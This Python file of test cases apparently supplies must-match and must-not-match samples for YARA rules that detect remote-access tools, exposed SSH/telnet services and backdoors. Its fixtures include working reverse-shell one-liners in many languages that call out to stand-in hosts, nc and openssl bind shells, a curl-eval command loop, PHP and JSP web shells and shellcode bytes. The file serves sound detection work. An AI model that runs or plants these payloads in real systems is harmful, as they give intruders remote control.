"""What the rules of ``remote_access.yar`` must find and must leave alone."""

from __future__ import annotations

from typing import Final

from tests.rules_remote.contents import Cases, elf, pe, sh, text

SHELLS: Final[Cases] = (
    (
        "remote_ssh_dropbear",
        (elf("Dropbear server v%s", "Child connection from %s", "/etc/dropbear/dropbear_rsa"),),
        (elf("Dropbear SSH client v%s"), text("Dropbear server v%s Child connection from %s")),
    ),
    (
        "remote_ssh_openssh",
        (
            elf(
                "Server listening on %s port %d.",
                "/etc/ssh/sshd_config",
                "permitrootlogin",
                "permitemptypasswords",
            ),
        ),
        (elf("/etc/ssh/sshd_config"), text("permitrootlogin permitemptypasswords sshd_config")),
    ),
    (
        "remote_ssh_tiny",
        (
            elf("tinysshd: usage: tinysshd [options] keydir", "tinysshnoversion"),
            elf("SSH-2.0-wolfSSHv1.4.15", "wolfSSH_accept"),
            b"\0SSH-2.0-RomSShell_4.62\r\n\0vxWorks\0",
        ),
        (elf("SSH-2.0-OpenSSH_9.2"), elf("wolfSSH_accept"), text("tinysshd")),
    ),
    (
        "remote_ssh_library_server",
        (
            elf("ssh_bind_listen", "ssh_bind_accept", "libssh.so.4"),
            elf("golang.org/x/crypto/ssh.NewServerConn"),
            text("class S(paramiko.ServerInterface):", "t.start_server(server=S())"),
        ),
        (elf("ssh_connect", "libssh.so.4"), elf("golang.org/x/crypto/ssh.NewClientConn")),
    ),
    (
        "remote_ssh_launch",
        (
            sh("/usr/sbin/dropbear -R -p 2222 -B"),
            sh("/usr/sbin/sshd -p 2022 -o PermitRootLogin=yes"),
            sh("dropbear -Y masterpass -R"),
        ),
        (sh("/usr/sbin/sshd -t"), elf("dropbear -p 2222"), sh("dropbearkey -t rsa -f k")),
    ),
    (
        "remote_ssh_started",
        (
            sh("start)", "  start-stop-daemon -S -q -x /usr/sbin/dropbear -- -R"),
            sh("/usr/sbin/sshd"),
        ),
        (sh("test -x /usr/sbin/sshd || exit 0"), text("/usr/sbin/sshd"), sh("killall dropbear")),
    ),
    (
        "remote_sshd_config_open",
        (
            text("Port 22", "PermitRootLogin yes", "PasswordAuthentication yes"),
            text("PermitEmptyPasswords yes"),
            text("config dropbear", "\toption PasswordAuth 'on'", "\toption RootPasswordAuth 'on'")
            + text("\toption GatewayPorts 'on'"),
        ),
        (
            text("PermitRootLogin no", "PasswordAuthentication yes"),
            text("#PermitEmptyPasswords yes"),
            elf("\nPermitEmptyPasswords yes"),
        ),
    ),
    (
        "remote_telnetd_inetd",
        (
            text("telnet stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.telnetd"),
            text("31337 stream tcp nowait root /bin/sh sh -i"),
            text("service telnet", "{", " disable = no", " server = /usr/sbin/in.telnetd", "}"),
        ),
        (
            text("#telnet stream tcp nowait root /usr/sbin/in.telnetd"),
            text("service telnet", "{", " disable = yes", " server = /usr/sbin/in.telnetd", "}"),
            text("ftp stream tcp nowait root /usr/sbin/ftpd ftpd"),
        ),
    ),
    (
        "remote_telnetd_program",
        (
            elf("DARPA TELNET protocol server"),
            elf("utelnetd", "can't find free pty"),
            elf("telnetd: panic state=%d", "/etc/issue.net", "ttloop: read"),
        ),
        (elf("telnetd"), elf("telnet: Unable to connect"), text("DARPA telnet protocol server")),
    ),
    (
        "remote_rlogin_server",
        (elf("rlogind", "/etc/hosts.equiv", "Permission denied.\n"),),
        (elf("rlogin", "hosts.equiv"), text("rshd .rhosts remuser locuser")),
    ),
    (
        "remote_netcat_program",
        (
            elf("-e filename\t\tprogram to exec after connect [dangerous!!]"),
            elf("Ncat: Version %s", "  -c, --sh-exec <command>"),
        ),
        (elf("usage: nc [-46CDdFhklNnrStUuvZz]"), text("program to exec after connect")),
    ),
    (
        "remote_socat_program",
        (elf("socat by Gerhard Rieger and contributors", "SOCAT_PEERADDR"),),
        (elf("SOCAT_PEERADDR"), text("socat by Gerhard Rieger SOCAT_PEERADDR")),
    ),
    (
        "remote_mosh",
        (elf("\r\nMOSH CONNECT %d %s\r\n", "MOSH_SERVER_NETWORK_TMOUT"),),
        (elf("MOSH_KEY"), text("MOSH CONNECT 60001 MOSH_KEY")),
    ),
    (
        "remote_tmate",
        (
            elf("ssh.tmate.io", "tmate-server-host"),
            sh("tmate -S /tmp/t.sock new-session -d"),
        ),
        (elf("tmux"), elf("ssh.tmate.io"), text("tmate is a fork of tmux")),
    ),
    (
        "remote_adb_over_tcp",
        (
            text("ro.secure=0", "persist.adb.tcp.port=5555"),
            sh("setprop service.adb.tcp.port 5555", "stop adbd", "start adbd"),
        ),
        (text("#persist.adb.tcp.port=5555"), elf("service.adb.tcp.port"), sh("adb devices")),
    ),
    (
        "remote_adbd",
        (elf("service.adb.tcp.port", "service.adb.root", "/data/misc/adb/adb_keys"),),
        (elf("service.adb.tcp.port"), text("service.adb.tcp.port service.adb.root adbd")),
    ),
    (
        "remote_serial_server",
        (elf("ser2net", "/etc/ser2net/ser2net.yaml"), elf("conserver.cf", "conserver.passwd")),
        (elf("rfc2217"), text("ser2net /etc/ser2net.conf")),
    ),
    (
        "remote_getty_network",
        (
            text("tty1::askfirst:/bin/login", "::respawn:/usr/bin/nc -l -p 99 -e /bin/sh"),
            text("T3:23:respawn:/sbin/telnetd -F -l /bin/login"),
        ),
        (text("::respawn:/sbin/getty 115200 ttyS0"), elf("\n::respawn:/bin/nc")),
    ),
)

REVERSE: Final[Cases] = (
    (
        "remote_reverse_shell_python",
        (
            text(
                "import socket,subprocess,os,pty",
                "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)",
                's.connect(("198.51.100.7",4444))',
                "[os.dup2(s.fileno(),f) for f in(0,1,2)]",
                'pty.spawn("/bin/sh")',
            ),
            text(
                "s = socket.socket()",
                "s.connect((HOST, 443))",
                "while 1:",
                "    c = s.recv(1024).decode()",
                "    s.send(subprocess.getoutput(c).encode())",
            ),
        ),
        (
            text("s = socket.socket()", 's.connect(("ntp.invalid", 123))', "d = s.recv(48)"),
            text("os.dup2(log.fileno(), 1)", 'subprocess.run(["ls"])'),
        ),
    ),
    (
        "remote_reverse_shell_perl",
        (
            text(
                'perl -e \'use Socket;$i="198.51.100.7";$p=1;socket(S,PF_INET,SOCK_STREAM,6);'
                'connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");open(STDOUT,">&S");'
                'exec("/bin/sh -i");\''
            ),
            text(
                'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"h:1");STDIN->fdopen($c,r);'
                "$~->fdopen($c,w);system$_ while<>;' # exec '/bin/sh'"
            ),
        ),
        (text("use Socket;", "my $s = 1;"), text("open(STDIN, '<', 'f');", "exec '/bin/sh';")),
    ),
    (
        "remote_reverse_shell_php",
        (
            text('<?php $s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>'),
            text(
                "<?php",
                "$shell = 'uname -a; w; id; /bin/sh -i';",
                "$sock = fsockopen($ip, $port);",
                "$p = proc_open($shell, $spec, $pipes);",
            ),
        ),
        (text('<?php $f = fsockopen("smtp.invalid", 25);'), text('<?php exec("/bin/sh job.sh");')),
    ),
    (
        "remote_reverse_shell_interpreter",
        (
            text("require 'socket'", 'f=TCPSocket.open("198.51.100.7",4444).to_i')
            + text('exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'),
            text('local s=require("socket").tcp() s:connect("198.51.100.7",4444)')
            + text('while true do local r=s:receive() local f=io.popen(r,"r") end'),
            text(
                "s=TCPSocket.new('198.51.100.7',4444)",
                "while c=s.gets;s.print IO.popen(c).read;end",
            ),
            text(
                "set s [socket 198.51.100.7 4444]", "while 1 {gets $s c; catch {exec sh -c $c} r}"
            ),
            text('var net = require("net"), cp = require("child_process"),')
            + text('  sh = cp.spawn("/bin/sh", []);  // require("child_process")')
            + text('require("child_process").spawn("sh");client.pipe(sh.stdin);'),
            text(
                'BEGIN {s="/inet/tcp/0/198.51.100.7/4444";while(1){s|&getline c;if(c)',
                "{while((c|&getline x)>0)print x|&s}}}  # '/inet/tcp/0/h/1' |& getline",
            ),
        ),
        (
            text("require 'socket'", 's=TCPSocket.open("time.invalid",37)', "puts s.read"),
            text("set s [socket time.invalid 37]", "puts [exec sh -c {date}]"),
            text("set s [socket -server accept 37]", "exec sh -c $c"),
            text('local s=require("socket").tcp() s:connect("h",1) s:send("x")'),
            text('var cp = require("child_process"); cp.exec("ls");'),
        ),
    ),
    (
        "remote_command_by_message",
        (
            text("import paho.mqtt.client as m, os", "def got(a, b, e):", " os.system(e.payload)"),
            text("import requests, subprocess", 'r = requests.get("http://h/c")')
            + text("subprocess.run(r.text, shell=True)"),
            text('const m = require("mqtt")', "m.on('message', (t, message) => execSync(message))"),
        ),
        (
            text("import paho.mqtt.client as m, os", 'os.system("ip link set can0 up")'),
            text("import os", "os.system(message)"),
            text('const m = require("mqtt")', 'm.on("message", (t, message) => show(message))'),
            elf("import paho", "os.system(payload)"),
        ),
    ),
    (
        "remote_reverse_shell_openssl",
        (
            sh("mkfifo /tmp/s; sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect h:1 >/tmp/s"),
            sh("telnet relay.invalid 4444 | /bin/sh | telnet relay.invalid 4445"),
            sh("socat TCP:relay.invalid:4444 EXEC:'bash -li',pty,stderr"),
            sh("nc relay.invalid 99 | sh"),
        ),
        (
            sh("openssl s_client -connect h:443 </dev/null | openssl x509 -noout"),
            sh("telnet h 25 </dev/null"),
            sh("socat TCP:relay.invalid:80 STDOUT"),
        ),
    ),
    (
        "remote_reverse_shell_powershell",
        (
            text("$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7',443)")
            + text("$s = $c.GetStream()", "$o = (iex $d 2>&1 | Out-String)"),
            "$c=[Net.Sockets.TcpClient]::new('h',1);$s=$c.GetStream();Invoke-Expression $d".encode(
                "utf-16-le"
            ),
        ),
        (
            text("$c = New-Object Net.Sockets.TcpClient('h',80)", "$s = $c.GetStream()"),
            text("iex (Get-Content x.ps1)"),
        ),
    ),
    (
        "remote_shell_loop_script",
        (
            sh("while true; do", '  eval "$(curl -s http://c.invalid/cmd)"', "  sleep 60", "done"),
            sh("while :; do", "  CMD=$(wget -qO- http://c.invalid/q)", '  sh -c "$CMD"')
            + text("  sleep 5", "done"),
        ),
        (
            sh("while true; do", "  curl -s http://h/alive", "  sleep 60", "done"),
            sh('eval "$(curl -s http://h/x)"'),
        ),
    ),
    (
        "remote_bind_shell_script",
        (
            sh("mkfifo /tmp/f", "cat /tmp/f | /bin/sh -i 2>&1 | nc -lk 4444 > /tmp/f"),
            sh("busybox nc -ll -p 99 -e /bin/sh &"),
            sh("nc -lvp 99 | sh"),
        ),
        (sh("nc -l -p 99 > file"), sh("mkfifo /tmp/f; cat /tmp/f | sh"), sh("busybox nc h 80")),
    ),
    (
        "remote_meterpreter",
        (
            elf("core_channel_open", "core_loadlib", "stdapi_fs_file"),
            b"x" * 8 + bytes.fromhex("31dbf7e35343536a0289e1b066cd80") + b"y" * 8,
        ),
        (elf("core_channel_open"), b"x" * 8 + bytes.fromhex("31dbf7e353435390") + b"y" * 8),
    ),
    (
        "remote_command_framework",
        (
            elf("github.com/bishopfox/sliver/implant/sliver/transports"),
            text("import pupyimporter", "HOST = 'pupy://c.invalid'"),
        ),
        (text("github.com/bishopfox/sliver/"), elf("a sliver of light"), elf("beacon")),
    ),
    (
        "remote_shell_words",
        (elf("starting reverse shell to %s", "/bin/sh", "shell connected"),),
        (elf("reverse shell detected", "/bin/sh"), text("reverse shell /bin/sh got shell")),
    ),
)

DESKTOPS: Final[Cases] = (
    (
        "remote_vnc_program",
        (
            elf("x11vnc: 0.9.16", "-rfbport port", "-noxdamage"),
            elf("12VNCServerST", "VNCSConnST", "BlacklistThreshold"),
            pe("UltraVNC Server", "uvnc_service"),
        ),
        (elf("RFB 003.008\n"), elf("TigerVNC viewer"), text("x11vnc: -rfbport")),
    ),
    (
        "remote_vnc_launch",
        (
            sh("x11vnc -display :0 -forever -nopw -bg"),
            sh("vncserver :1 -geometry 1024x768"),
            text("ExecStart=/usr/bin/wayvnc 0.0.0.0 5900"),
        ),
        (sh("vncviewer host:1"), elf("x11vnc -display :0 -forever"), sh("x11vnc -version")),
    ),
    (
        "remote_rdp_program",
        (
            elf("A Remote Desktop Protocol Server.", "xrdp.ini"),
            elf("freerdp_peer_new", "freerdp_listener_new"),
            elf("GrdRdpServer"),
        ),
        (elf("freerdp_client_new"), elf("rdesktop"), text("A Remote Desktop Protocol Server.")),
    ),
    (
        "remote_desktop_other",
        (
            pe("ScreenConnect Client (0123456789abcdef)", "ScreenConnect.ClientService.exe"),
            pe("Radmin Server 3.5", "Famatech Corp."),
            elf("MeshAgent", "meshServiceName"),
        ),
        (pe("LogMeIn"), text("MeshCentral"), pe("Splashtop"), text("secure.logmein.com")),
    ),
    (
        "remote_desktop_program",
        (
            elf("AnyDesk", "ad.anynet.id", "ad.trace"),
            pe("TeamViewer", "TeamViewer_Service.exe"),
            elf("hbb_common::config", "relay-server", "custom-rendezvous-server"),
        ),
        (elf("AnyDesk"), pe("TeamViewer"), text("TeamViewer teamviewerd")),
    ),
    (
        "remote_desktop_setup",
        (
            text("echo secret | anydesk.exe --set-password _unattended_access"),
            sh("teamviewer passwd secret42"),
            text("rendezvous_server = 'relay.invalid:21116'"),
        ),
        (text("anydesk.exe --version"), sh("teamviewer info"), elf("rustdesk --password")),
    ),
    (
        "remote_x_display",
        (
            sh("xpra start :100 --bind-tcp=0.0.0.0:14500 --start=xterm"),
            sh("DISPLAY=:0", "xhost +"),
        ),
        (sh("xhost -"), sh("xpra attach tcp:h:1"), elf("xhost +")),
    ),
    (
        "remote_suite_industrial",
        (
            elf("eWON", "ew.device.talk2m.com"),
            pe("SiteManager", "Secomea A/S"),
            elf("IXagent", "wss://ws.ayayot.com"),
        ),
        (elf("talk2m"), pe("SiteManager"), elf("ixon"), text("GateManager")),
    ),
    (
        "remote_suite_router",
        (
            elf("mqtt.connect", "rms.teltonika-networks.com:15009"),
            text("config rms_connect_mqtt 'rms'", "\toption enable '1'"),
            elf("edp12.devicecloud.com"),
        ),
        (elf("Teltonika"), text("www.teltonika.example"), elf("www.milesight.com")),
    ),
)

WEB: Final[Cases] = (
    (
        "remote_web_terminal_program",
        (
            elf("ttyd", "ttyd is a tool for sharing terminal over the web"),
            elf("shellinaboxd", "--static-file=URL:FILE"),
            elf("github.com/yudai/gotty/server.(*Server).Run"),
        ),
        (elf("ttyd"), text("github.com/yudai/gotty/"), elf("/dev/ttyd0")),
    ),
    (
        "remote_web_terminal_launch",
        (
            sh("ttyd -p 7681 -W bash &"),
            sh("shellinaboxd -b -t -s /:LOGIN"),
            text("ExecStart=/usr/local/bin/gotty -w --port 8080 sh"),
        ),
        (sh("ttyd --version"), sh("mgetty ttyd0"), elf("shellinaboxd -t -s /:LOGIN")),
    ),
    (
        "remote_web_shell_php",
        (
            text("<?php @eval($_POST['x']); ?>"),
            text("<?php if(isset($_GET['c'])) { system($_GET['c'].' 2>&1'); } ?>"),
            text("<?php eval(gzinflate(base64_decode('S0kt')));"),
        ),
        (
            text("<?php echo htmlspecialchars($_GET['c']); ?>"),
            text("<?php system('uptime'); $x = $_GET['y'];"),
        ),
    ),
    (
        "remote_web_shell_other",
        (
            text('<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
            sh('echo "Content-Type: text/plain"; echo', 'eval "$QUERY_STRING"'),
            text('<%eval request("x")%>'),
            text("os.execute(luci.http.formvalue('cmd'))"),
        ),
        (
            text('<% out.print(request.getParameter("name")); %>'),
            sh('echo "Content-Type: text/plain"; echo', 'echo "$QUERY_STRING"'),
            text("os.execute('reboot')"),
        ),
    ),
    (
        "remote_known_magic_more",
        (
            elf("zyfwp", "user"),
            elf("<<< %s(un='%s') = %u"),
            elf("IGDMPTD", "netcore"),
            elf("UDPserver", "orf;344"),
        ),
        (text("zyfwp"), elf("netcore"), elf("orf;")),
    ),
    (
        "remote_telnet_switch",
        (
            elf("system", "/goform/telnet", "telnetd -l /bin/sh &"),
            elf("popen", "open_ssh", "dropbear -p 2222"),
            elf("system", "StartSSHD", "sshd&"),
        ),
        (
            elf("system", "/goform/telnet"),
            elf("telnetd -l /bin/sh"),
            text("/goform/telnet system"),
            elf("system", "OpenSSH_9.2p1", "OpenSSH", "openssh", "sshd -r"),
            elf("system", "open_ssh", "sshd-r"),
        ),
    ),
    (
        "remote_port_knock",
        (
            elf("knockd", "/etc/knockd.conf"),
            text("[open]", "  sequence = 7000,8000,9000", "  command = /usr/sbin/telnetd -l sh"),
            elf("waiting for magic packet", "raw socket", "bind shell on %d"),
        ),
        (elf("knockd"), text("sequence = 7000,8000"), elf("Wake-on-LAN magic packet", "SOCK_RAW")),
    ),
)

CASES: Final[Cases] = (*SHELLS, *REVERSE, *DESKTOPS, *WEB)
